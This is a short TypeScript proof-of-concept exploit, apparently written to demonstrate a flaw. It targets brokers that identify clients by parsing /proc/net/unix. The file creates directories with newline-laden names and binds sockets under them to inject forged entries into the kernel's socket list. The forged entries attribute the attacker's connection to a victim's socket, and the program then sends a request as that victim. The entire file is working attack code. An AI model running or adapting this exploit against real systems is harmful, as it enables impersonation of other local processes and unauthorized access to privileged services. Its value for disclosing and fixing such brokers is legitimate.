/**
 * An attack on a broker that would identify its client by /proc/net/unix. The kernel lists each Unix socket
 * there with the path that it was bound to, unescaped. A path can contain a newline, so a user can add lines.
 * This program adds a line which claims that its connection was accepted by the victim's socket.
 *
 *     proc-net-unix-spoof OWN_SOCKET VICTIMS_SOCKET REQUEST
 *
 * Prints the path listed for the connection before the request is sent, and the answer, as JSON.
 */
import { mkdirSync, readFileSync, renameSync } from 'node:fs';
import { connect, createServer } from 'node:net';
import { dirname, join } from 'node:path';

interface Line {
  readonly state: string;
  readonly inode: string;
  readonly path: string;
}

const [own = '', victims = '', request = ''] = process.argv.slice(2);

/** The lines of the file, as a program reads them that splits it at newlines. */
function lines(): Line[] {
  const text = readFileSync('/proc/self/net/unix', 'utf8');
  return [...text.matchAll(/^\S+ \S+ \S+ \S+ \S+ (\S+) +(\d+) (\/.*)$/gm)].map(
    ([, state = '', inode = '', path = '']) => ({ state, inode, path }),
  );
}

/** Inodes of the own socket's accepted connections; 03 is SS_CONNECTED. */
function accepted(): string[] {
  return lines().flatMap(({ state, inode, path }) => (path === own && state === '03' ? inode : []));
}

// The kernel sorts sockets by the last eight bits of their inodes, newest first. Among 300 consecutive ones, at
// least one is listed before the true line.
const traps = Array.from({ length: 300 }, (_, number) => `x${number}`);
for (const name of traps) mkdirSync(join(name, dirname(victims)), { recursive: true });
const before = new Set(accepted());
const connection = connect(own);
connection.on('connect', () => {
  let inode: string | undefined;
  while (inode === undefined) inode = accepted().find((one) => !before.has(one));
  for (const name of traps) {
    const line = `${name}\na a a a a a ${inode} `;
    renameSync(name, line);
    createServer()
      .listen(line + victims)
      .unref();
  }
  const trap = lines().find((line) => line.inode === inode)?.path;
  // A broker that trusts the list has read it by then.
  setTimeout(() => connection.write(request), 1_500);
  let answer = '';
  connection.on('data', (data) => (answer += data.toString()));
  connection.on('close', () => {
    process.stdout.write(JSON.stringify({ trap, answer }));
  });
});
